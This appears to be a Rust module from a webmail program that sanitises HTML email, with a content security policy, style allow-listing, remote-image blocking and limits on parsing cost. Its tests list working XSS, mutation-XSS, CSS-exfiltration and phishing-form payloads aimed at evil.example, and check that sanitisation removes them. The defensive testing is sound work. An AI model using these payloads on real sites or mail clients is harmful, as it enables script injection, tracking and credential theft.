//! HTML mail, made harmless.
//!
//! What is left has no script, no form, no SVG or MathML, styles by an allow-list ([`style`]), no position of its own
//! choosing, and loads nothing from elsewhere unless the person asked for its pictures. The page that carries it is a
//! document of its own, without an origin ([`POLICY`]): should something get through here, it is still nowhere near the
//! webmail.

use std::borrow::Cow;
use std::collections::{HashMap, HashSet};
use std::sync::Arc;
use std::sync::atomic::{AtomicU32, Ordering};

use ammonia::{Builder, UrlRelative};
use percent_encoding::percent_decode_str;
use sekisho_message::html::{Looks, looks};

use super::style;

/// The policy of the frame's document. Pictures that belong to the message are within it, as `data:`.
pub(super) const POLICY: &str = "default-src 'none'; style-src 'unsafe-inline'; img-src data:; \
    form-action 'none'; base-uri 'none'; frame-ancestors 'self'; sandbox allow-popups allow-popups-to-escape-sandbox";

/// The same once the person asked for pictures from elsewhere.
pub(super) const POLICY_WITH_PICTURES: &str = "default-src 'none'; style-src 'unsafe-inline'; \
    img-src data: https: http:; form-action 'none'; base-uri 'none'; \
    frame-ancestors 'self'; sandbox allow-popups allow-popups-to-escape-sandbox";

/// Kinds of pictures that a browser shows without running anything.
pub(super) const PICTURES: [&str; 5] = [
    "image/png",
    "image/jpeg",
    "image/gif",
    "image/webp",
    "image/bmp",
];

/// What is dropped with all that is in it; of other unknown elements the text stays.
const DROPPED: [&str; 18] = [
    "script",
    "style",
    "title",
    "template",
    "noscript",
    "iframe",
    "frameset",
    "object",
    "embed",
    "applet",
    "svg",
    "math",
    "textarea",
    "select",
    "noembed",
    "noframes",
    "xmp",
    "plaintext",
];

/// The longest style sheets that are looked at, in bytes together. What is beyond is left out.
const MOST_STYLE: usize = 256 * 1024;
/// The longest HTML that is made harmless, in bytes, and the most tags in it: parsing takes the square of their number
/// when they are nested.
const MOST: (usize, usize) = (1024 * 1024, 10_000);
/// The most attributes of a tag: one with more is no mail, and takes the square of their number.
const MOST_ATTRIBUTES: usize = 500;
/// The longest Content-ID that HTML can refer to, in bytes.
const LONGEST_ID: usize = 1_000;

/// Whether nobody could say how long it takes to make this harmless. Such mail is shown as text.
pub(super) fn is_excessive(html: &str) -> bool {
    html.len() > MOST.0 + data_length(html)
        || html.bytes().filter(|byte| *byte == b'<').count() > MOST.1
        || has_crowded_tag(html.as_bytes())
}

/// Whether a tag has too many attributes, wherever a parser takes one to begin: each `<` is tried, since what is text
/// and what is a tag depends on all that stands before. Tags that reach over most of the message again and again are no
/// mail either.
fn has_crowded_tag(html: &[u8]) -> bool {
    let mut patience = 4 * html.len() + 65_536;
    for (at, _) in html.iter().enumerate().filter(|(_, byte)| **byte == b'<') {
        let rest = html.get(at + 1..).unwrap_or_default();
        let rest = rest.strip_prefix(b"/").unwrap_or(rest);
        if !rest.first().is_some_and(u8::is_ascii_alphabetic) {
            continue;
        }
        let (attributes, read) = attributes(rest);
        if attributes > MOST_ATTRIBUTES || read > patience {
            return true;
        }
        patience -= read;
    }
    false
}

/// How many attributes a tag has whose name begins here, and how long it is; no further than matters (HTML Standard,
/// 13.2.5.8 and 13.2.5.32 to 39).
fn attributes(tag: &[u8]) -> (usize, usize) {
    let is_blank = |byte: &u8| byte.is_ascii_whitespace();
    let ends_name = |byte: &u8| is_blank(byte) || b"/>".contains(byte);
    let run = |from: usize, ends: &dyn Fn(&u8) -> bool| {
        let rest = tag.get(from..).unwrap_or_default();
        from + rest.iter().position(ends).unwrap_or(rest.len())
    };
    let mut count = 0;
    let mut at = run(0, &ends_name);
    while count <= MOST_ATTRIBUTES {
        at = run(at, &|byte| !is_blank(byte) && *byte != b'/');
        match tag.get(at) {
            None | Some(b'>') => break,
            Some(_) => count += 1,
        }
        // A name may begin with `=`.
        at = run(at + 1, &|byte| ends_name(byte) || *byte == b'=');
        let value = run(at, &|byte| !is_blank(byte));
        if tag.get(value) != Some(&b'=') {
            continue;
        }
        at = run(value + 1, &|byte| !is_blank(byte));
        at = match tag.get(at) {
            Some(&quote @ (b'"' | b'\'')) => run(at + 1, &|byte| *byte == quote) + 1,
            _ => run(at, &|byte| is_blank(byte) || *byte == b'>'),
        };
    }
    (count, at.min(tag.len()))
}

/// How much of it are pictures within addresses.
fn data_length(html: &str) -> usize {
    let data = html
        .match_indices("data:image/")
        .filter_map(|(at, _)| html.get(at..));
    data.map(|rest| rest.find(['"', '\'', '>', ' ']).unwrap_or(rest.len()))
        .sum()
}

/// How a picture of the message is named, by its Content-ID or by an address that refers to it: percent-encoding undone
/// (RFC 2392, section 2), in lower case, since programs change it.
pub(super) fn picture_key(id: &str) -> String {
    let id = id.trim().trim_start_matches('<').trim_end_matches('>');
    percent_decode_str(id).decode_utf8_lossy().to_lowercase()
}

/// The keys of the message's pictures that the HTML shows. A picture that is referred to in another way, such as by a
/// style, isn't shown here.
pub(super) fn pictures_in(html: &str) -> HashSet<String> {
    let bytes = html.as_bytes();
    let starts = bytes.windows(4).enumerate();
    let starts = starts.filter(|(_, four)| four.eq_ignore_ascii_case(b"cid:"));
    let ids = starts.filter_map(|(at, _)| {
        let before = bytes.get(..at)?.trim_ascii_end();
        let before = before
            .strip_suffix(b"\"")
            .or(before.strip_suffix(b"'"))
            .unwrap_or(before);
        let before = before.trim_ascii_end().strip_suffix(b"=")?.trim_ascii_end();
        let is_source = before
            .get(before.len().checked_sub(3)?..)?
            .eq_ignore_ascii_case(b"src");
        let rest = html.get(at + 4..).filter(|_| is_source)?;
        let end = rest.find(|c: char| c.is_whitespace() || "\"'<>".contains(c));
        rest.get(..end.unwrap_or(rest.len()).min(LONGEST_ID))
    });
    ids.map(|id| picture_key(&id.replace("&amp;", "&")))
        .collect()
}

/// Pictures within a message, by [`picture_key`], as `data:` addresses.
pub(super) type Pictures = HashMap<String, String>;

/// HTML made harmless.
#[derive(Debug, PartialEq, Eq)]
pub(super) struct Clean {
    /// The content of a `<body>`.
    pub body: String,
    /// The style sheet that goes with it.
    pub style: String,
    /// How many pictures from elsewhere were left out.
    pub left_out: u32,
}

/// Makes HTML harmless. `remote` lets pictures from elsewhere in.
pub(super) fn clean(html: &str, pictures: Pictures, remote: bool) -> Clean {
    let left_out = Arc::new(AtomicU32::new(0));
    let counter = Arc::clone(&left_out);
    let mut builder = Builder::default();
    builder
        .add_tags(["font", "big", "address", "tfoot", "section", "main"])
        .clean_content_tags(HashSet::from(DROPPED))
        .rm_tags(["area", "map", "details", "summary"])
        .add_generic_attributes([
            "style", "class", "id", "dir", "align", "valign", "bgcolor", "width", "height",
        ])
        .add_tag_attributes("font", ["color", "face", "size"])
        .add_tag_attributes("table", ["border", "cellpadding", "cellspacing"])
        .add_tag_attributes("td", ["nowrap"])
        .url_schemes(HashSet::from([
            "http", "https", "mailto", "tel", "data", "cid",
        ]))
        .url_relative(UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer nofollow"))
        .set_tag_attribute_value("a", "target", "_blank")
        .attribute_filter(
            move |element, attribute, value| match (element, attribute) {
                ("img", "src") => picture(value, &pictures, remote, &counter).map(Cow::Owned),
                (_, "href") => is_link(value).then_some(Cow::Borrowed(value)),
                (_, "cite") => None,
                (_, "style") => Some(style::declarations(value))
                    .filter(|left| !left.is_empty())
                    .map(Cow::Owned),
                _ => Some(Cow::Borrowed(value)),
            },
        );
    let body = builder.clean(html).to_string();
    Clean {
        body,
        style: style_of(&looks(html)),
        left_out: left_out.load(Ordering::Relaxed),
    }
}

/// The document's own style sheets, behind the colours of its body.
fn style_of(looks: &Looks<'_>) -> String {
    let attribute = |property: &str, value: &Option<Cow<'_, str>>| {
        let value = value.as_deref().unwrap_or_default();
        style::colour(property, value)
    };
    let body = [
        attribute("background-color", &looks.background),
        attribute("color", &looks.text),
        style::declarations(looks.body_style.as_deref().unwrap_or_default()),
    ];
    let link = attribute("color", &looks.link);
    let mut room = MOST_STYLE;
    let sheets = looks.sheets.iter().take_while(|sheet| {
        let fits = sheet.len() <= room;
        room = room.saturating_sub(sheet.len());
        fits
    });
    let sheets: String = sheets.map(|sheet| style::sheet(sheet)).collect();
    format!("body{{{}}}a{{{link}}}{sheets}", body.join(";"))
}

/// A whole document for the frame. It is paper-white in dark mode as well, since mail sets its colours against white.
pub(super) fn document(clean: &Clean) -> String {
    format!(
        "<!doctype html><meta charset=utf-8><meta name=viewport content=\"width=device-width\"><meta name=referrer content=no-referrer>\
         <style>:root{{color-scheme:light}}body{{margin:16px;background:#fff;color:#1c2333;font:16px/1.65 system-ui,sans-serif;overflow-wrap:anywhere}}\
         img{{max-width:100%;height:auto}}table{{max-width:100%}}pre{{white-space:pre-wrap}}\
         blockquote{{margin:0 0 0 4px;padding-left:12px;border-left:3px solid #dcd5c6}}{}</style>{}",
        clean.style, clean.body
    )
}

fn picture(
    source: &str,
    pictures: &Pictures,
    remote: bool,
    left_out: &AtomicU32,
) -> Option<String> {
    let source = source.trim();
    let lower = source
        .get(..16.min(source.len()))
        .unwrap_or_default()
        .to_ascii_lowercase();
    if lower.starts_with("cid:") {
        return pictures.get(&picture_key(source.get(4..)?)).cloned();
    }
    if lower.starts_with("data:") {
        let is_picture = PICTURES.iter().any(|kind| {
            source
                .get(5..)
                .and_then(|rest| rest.get(..kind.len()))
                .is_some_and(|start| start.eq_ignore_ascii_case(kind))
        });
        return is_picture.then(|| source.to_owned());
    }
    if lower.starts_with("https:") || lower.starts_with("http:") || lower.starts_with("//") {
        if remote && !lower.starts_with("//") {
            return Some(source.to_owned());
        }
        left_out.fetch_add(1, Ordering::Relaxed);
    }
    None
}

fn is_link(address: &str) -> bool {
    let scheme = address
        .trim()
        .split_once(':')
        .map(|(scheme, _)| scheme.to_ascii_lowercase());
    scheme.is_some_and(|scheme| ["http", "https", "mailto", "tel"].contains(&scheme.as_str()))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cleaned(html: &str) -> String {
        clean(html, Pictures::new(), false).body
    }

    /// The style sheet that is left, without the rules that are always there.
    fn style(html: &str) -> String {
        clean(html, Pictures::new(), false).style
    }

    #[test]
    fn known_attacks_leave_nothing_that_acts() {
        for attack in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><animate attributeName=href values='javascript:alert(1)' /><a id=x><text>x</text></a></svg>",
            "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='/></svg>",
            "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
            "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
            "<style>@import url(https://evil.example/x.css);</style>",
            "<style>p{background:url(https://evil.example/x)}</style>",
            "<style>p{font-family:'</sty'}</style><script>alert(1)</script>",
            "<style>p[title^=a]{list-style:url(https://evil.example/a)}</style>",
            "<style>div{position:fixed;top:0}</style>",
            "<body style='background:url(https://evil.example/x)' bgcolor='red;position:fixed'>",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<a href='javascript:alert(1)'>x</a>",
            "<a href='  JaVa\tScRiPt:alert(1)'>x</a>",
            "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
            "<a href='vbscript:x'>x</a>",
            "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
            "<form action=https://evil.example/><input name=password><button>Log in</button></form>",
            "<base href=https://evil.example/>",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
            "<object data=x.swf></object><embed src=x.swf>",
            "<body onload=alert(1) background=https://evil.example/x>",
            "<div style='position:fixed;inset:0;z-index:99'>x</div>",
            "<div style='background-image:url(https://evil.example/x)'>x</div>",
            "<div style='background-color:url(https://evil.example/x)'>x</div>",
            "<div style='color:red;width:expression(alert(1))'>x</div>",
            "<table background=https://evil.example/x><tr><td>x",
            "<video poster=https://evil.example/x src=https://evil.example/y></video>",
            "<img srcset='https://evil.example/x 2x'>",
            "<img src=https://evil.example/pixel.gif>",
            "<img src=//evil.example/pixel.gif>",
            "<img src=data:image/svg+xml,<svg/onload=alert(1)>>",
            "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
            "<title><img src=x onerror=alert(1)></title>",
            "<textarea><img src=x onerror=alert(1)></textarea>",
            "<a href='https://ok.example' target=_top ping=https://evil.example/>x</a>",
            "<p id=main class=notice name=csrf>x</p>",
            "<!--[if mso]><script>alert(1)</script><![endif]-->",
        ] {
            let Clean { body, style, .. } = clean(attack, Pictures::new(), false);
            let clean = (style + &body).to_ascii_lowercase();
            for harm in [
                "script",
                "onerror",
                "onload",
                "<svg",
                "<math",
                "<style",
                "<link",
                "<meta",
                "<form",
                "<input",
                "<button",
                "<base",
                "<iframe",
                "<object",
                "<embed",
                "evil.example",
                "position",
                "url(",
                "expression",
                "data:",
                "ping",
                "_top",
                "name=",
                "<video",
                "srcset",
                "vbscript",
            ] {
                assert!(
                    !clean.contains(harm),
                    "{harm:?} is left of {attack:?}: {clean}"
                );
            }
        }
    }

    #[test]
    fn pictures_from_elsewhere_come_only_when_asked_for() {
        let html = "<img src=https://a.example/1.png><img src='http://a.example/2.png'>";
        let without = clean(html, Pictures::new(), false);
        assert_eq!(without.left_out, 2);
        assert!(!without.body.contains("src"));
        let with = clean(html, Pictures::new(), true);
        assert_eq!(with.left_out, 0);
        assert_eq!(with.body.matches("src=").count(), 2);
    }

    #[test]
    fn pictures_of_the_message_are_put_in() {
        let pictures = Pictures::from([(
            "logo@kit".to_owned(),
            "data:image/png;base64,AAAA".to_owned(),
        )]);
        let html = "<img src='cid:logo@kit'><img src='cid:other'>";
        let body = clean(html, pictures, false).body;
        assert_eq!(body, "<img src=\"data:image/png;base64,AAAA\"><img>");
    }

    #[test]
    fn ordinary_mail_keeps_its_looks() {
        let html = "<html><head><title>t</title></head><body><h1 style=\"color:red;position:fixed\">会議</h1>\
            <p>See <a href=\"https://kit.example/?a=1&amp;b=2\">the page</a> <a href='mailto:a@kit.example'>a</a>.";
        assert_eq!(
            cleaned(html),
            "<h1 style=\"color:red\">会議</h1><p>See <a href=\"https://kit.example/?a=1&amp;b=2\" target=\"_blank\" \
             rel=\"noopener noreferrer nofollow\">the page</a> <a href=\"mailto:a@kit.example\" target=\"_blank\" \
             rel=\"noopener noreferrer nofollow\">a</a>.</p>"
        );
    }

    #[test]
    fn colours_come_with_what_they_stand_against() {
        let html = "<head><style>.dark{background:#222;color:#fff}</style></head>\
            <body bgcolor=navy text=white link=yellow style='margin:0'>\
            <table class=dark><tr><td style='background:#000 url(x);color:white'>x</td></tr></table>";
        assert_eq!(
            style(html),
            "body{background-color:navy;color:white;margin:0}a{color:yellow}.dark{background-color:#222;color:#fff}"
        );
        assert_eq!(
            cleaned(html),
            "<table class=\"dark\"><tbody><tr><td style=\"background-color:#000;color:white\">x</td></tr></tbody></table>"
        );
    }

    #[test]
    fn what_would_take_too_long_is_told_before() {
        assert!(is_excessive(&"<div>".repeat(50_000)));
        for attributes in [
            "a b c ",
            "a=''b=\"\"",
            "a=\">\"b='<'",
            "/a/b",
            "a = b\n",
            "a=>b ",
        ] {
            let crowded = attributes.repeat(5_000);
            for before in ["", "<title>'</title>", "<!-- <a b=' -->", "x < y '", "</p "] {
                let html = format!("{before}<p {crowded}>");
                let quick = attributes == "a=>b ";
                assert_eq!(is_excessive(&html), !quick, "{before}{attributes}");
            }
        }
        let endless = format!("{}'>", "<a b='".repeat(9_000));
        assert!(is_excessive(&endless), "each of them reaches to the end");
        let styled = "<td style=\"color: red; width: 3px\" class='a b' width=3>会議</td>";
        assert!(!is_excessive(&styled.repeat(2_000)));
        assert!(!is_excessive(&"<p>会議</p> ".repeat(2_000)));
        let deep = "<div>".repeat(2_000);
        assert!(
            clean(&deep, Pictures::new(), false)
                .body
                .starts_with("<div><div>")
        );
    }
}
